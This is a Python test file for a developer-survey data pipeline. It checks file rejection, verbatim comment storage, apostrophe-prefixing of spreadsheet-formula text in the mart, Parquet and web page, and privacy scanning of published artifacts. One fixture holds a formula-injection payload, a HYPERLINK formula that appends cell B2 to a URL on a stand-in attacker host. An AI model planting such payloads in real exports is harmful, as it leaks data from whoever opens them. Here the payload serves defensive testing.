"""From the inbox to what analysts and readers get, for real (loader, dbt, snapshot, site): the
probe's file is refused and nothing of it is stored or published; free text that a spreadsheet
would run is prefixed in the mart, its Parquet file and the page, and stored verbatim; the privacy
scan of every published artifact finds no e-mail, phone or respondent identity."""

from __future__ import annotations

import datetime as dt
import html as htmllib
import json
import re
import shutil
from pathlib import Path

import duckdb
import pytest

from dashboards.publish import publish_snapshot
from dashboards.site import build_site
from pipelines.dbt_cli import run_dbt
from pipelines.ingest import ensure_raw_tables
from pipelines.surveys.loader import load_inbox
from pipelines.surveys.text import EMAIL_MARK, FORMULA_PREFIXES, PHONE_MARK, spreadsheet_safe
from pipelines.warehouse import open_warehouse
from tests.privacy_scan import (
    Secrets,
    identities_from_exports,
    scan_database,
    scan_files,
    scan_parquet,
)
from tests.test_survey_formats import SALT, TEAMS
from tests.test_survey_strict_csv import export, probe, row

FORMULA = '=HYPERLINK("http://attacker.test/?d="&B2,"see details")'
COMMENTS = {
    0: FORMULA,
    1: "-2 hours a day lost to CI",
    2: "@platform: ask dev9@example.com or call +44 20 7946 0958",
    3: "Reviews wait for days",
}


@pytest.fixture(scope="module")
def published(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("survey_publication")
    inbox = tmp / "inbox"
    inbox.mkdir()
    (inbox / "2026-Q3.csv").write_text(probe(), encoding="utf-8")
    good = [row(k, COMMENTS.get(k)) for k in range(6)]
    for k, cells in enumerate(good):  # other people than the probe file's
        cells[1] = f"person{k}@example.org"
    (inbox / "2026-Q4.csv").write_text(export(good), encoding="utf-8")
    warehouse = tmp / "warehouse.duckdb"
    with open_warehouse(warehouse) as con:
        ensure_raw_tables(con)
        loaded, rejected = load_inbox(con, inbox, salt=SALT, teams=TEAMS)
    # dbt in its own process, as the pipeline runs it, so that it lets go of the file.
    run_dbt(
        ["run", "--select", "+metrics_devex_comments"], warehouse=warehouse, target_path=tmp / "t"
    )
    snapshot = publish_snapshot(warehouse, tmp / "snapshot")
    site = build_site(
        warehouse, tmp / "site", organisation="Acme", now=dt.datetime(2026, 8, 1, tzinfo=dt.UTC)
    ).path
    return tmp, loaded, rejected, snapshot, site


def raw_texts(tmp: Path) -> dict[str, list]:
    with duckdb.connect(str(tmp / "warehouse.duckdb"), read_only=True) as con:
        return {
            table: [
                json.loads(p) for (p,) in con.execute(f"SELECT payload FROM raw.{table}").fetchall()
            ]
            for table in ("survey_responses", "survey_comments")
        }


def test_the_probes_file_is_refused_and_nothing_of_it_is_stored(published):
    tmp, loaded, rejected, _, _ = published
    assert [f.wave for f in loaded] == ["2026-Q4"]
    assert [(p.name, p.parent.name) for p, _ in rejected] == [("2026-Q3.csv", "rejected")]
    assert "line 7: a quote opened here is never closed" in rejected[0][1]
    raw = raw_texts(tmp)
    assert {r["wave"] for rows in raw.values() for r in rows} == {"2026-Q4"}
    assert len(raw["survey_responses"]) == 6


def test_comments_are_stored_verbatim_but_for_personal_data(published):
    tmp, *_ = published
    stored = {c["text"] for c in raw_texts(tmp)["survey_comments"]}
    assert FORMULA in stored and COMMENTS[1] in stored
    assert f"@platform: ask {EMAIL_MARK} or call {PHONE_MARK}" in stored


def test_the_exported_mart_and_its_parquet_prefix_formula_text(published):
    _, _, _, snapshot, _ = published
    parquet = snapshot.parquet_files["metrics_devex_comments"]
    with duckdb.connect() as con:
        texts = {
            t
            for (t,) in con.execute(
                "SELECT comment_text FROM read_parquet(?)", [str(parquet)]
            ).fetchall()
        }
    with duckdb.connect(str(snapshot.duckdb_path), read_only=True) as con:
        in_db = {
            t
            for (t,) in con.execute(
                "SELECT comment_text FROM marts.metrics_devex_comments"
            ).fetchall()
        }
    assert texts == in_db
    assert "'" + FORMULA in texts and "'" + COMMENTS[1] in texts
    assert f"'@platform: ask {EMAIL_MARK} or call {PHONE_MARK}" in texts
    assert COMMENTS[3] in texts  # ordinary text is untouched
    assert not [t for t in texts if t.startswith(FORMULA_PREFIXES)]


def test_the_page_shows_formula_text_prefixed(published):
    *_, site = published
    page = (site / "devex.html").read_text(encoding="utf-8")
    shown = [
        htmllib.unescape(c) for c in re.findall(r'<span class="comment">(.*?)</span>', page, re.S)
    ]
    assert "'" + FORMULA in shown and COMMENTS[3] in shown
    assert not [t for t in shown if t.startswith(FORMULA_PREFIXES)]


def test_python_and_the_mart_prefix_the_same_characters():
    """pipelines/surveys/text.py (the page) and metrics_devex_comments.sql (the mart) agree: the
    model's list of characters, evaluated by DuckDB, is the Python list."""
    sql = (Path(__file__).parents[1] / "dbt/models/marts/metrics_devex_comments.sql").read_text()
    [listed] = re.findall(r"left\(comments\.comment_text, 1\) in \((.*)\)$", sql, re.M)
    with duckdb.connect() as con:
        [(in_sql,)] = con.execute(f"SELECT [{listed}]").fetchall()
    assert sorted(in_sql) == sorted(FORMULA_PREFIXES)
    assert all(spreadsheet_safe(p + "x") == "'" + p + "x" for p in FORMULA_PREFIXES)


def test_no_published_artifact_holds_an_email_phone_or_respondent_identity(published):
    tmp, _, _, snapshot, site = published
    inbox = tmp / "inbox"
    identities = identities_from_exports([*inbox.glob("*/*.csv")])
    assert "dev7@example.com" in identities and "person0@example.org" in identities
    with duckdb.connect(str(tmp / "warehouse.duckdb"), read_only=True) as con:
        hashes = {
            r
            for (r,) in con.execute(
                "SELECT payload ->> '$.respondent' FROM raw.survey_responses"
            ).fetchall()
        }
    secrets = Secrets(threshold=5, respondents=hashes, identities=identities)
    problems = (
        scan_database(snapshot.duckdb_path, secrets)
        + scan_parquet(snapshot.parquet_files.values(), secrets)
        + scan_files(site.rglob("*"), secrets)
    )
    assert problems == []


def test_a_warehouse_restored_from_the_snapshot_loads_the_processed_survey_files_again(
    published, tmp_path
):
    """The snapshot holds no survey answers, so it must not remember the loaded files either
    (raw.sync_state): restored as the warehouse (docs/operations.md#backups), the files kept in
    <inbox>/processed/ load again, to the same rows."""
    tmp, loaded, _, snapshot, _ = published
    assert loaded
    with duckdb.connect(str(snapshot.duckdb_path), read_only=True) as con:
        remembered = con.execute(
            "SELECT count(*) FROM raw.sync_state WHERE source = 'surveys'"
        ).fetchone()[0]
    assert remembered == 0
    restored = tmp_path / "warehouse.duckdb"
    shutil.copyfile(snapshot.duckdb_path, restored)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for kept in sorted((tmp / "inbox" / "processed").glob("*.csv")):
        shutil.copyfile(kept, inbox / kept.name)
    with open_warehouse(restored) as con:
        ensure_raw_tables(con)
        again, _ = load_inbox(con, inbox, salt=SALT, teams=TEAMS)
        restored_rows = con.execute(
            "SELECT natural_key, payload FROM raw.survey_responses ORDER BY 1"
        ).fetchall()
    with duckdb.connect(str(tmp / "warehouse.duckdb"), read_only=True) as con:
        original_rows = con.execute(
            "SELECT natural_key, payload FROM raw.survey_responses ORDER BY 1"
        ).fetchall()
    assert len(again) == len(loaded)
    assert restored_rows == original_rows and original_rows
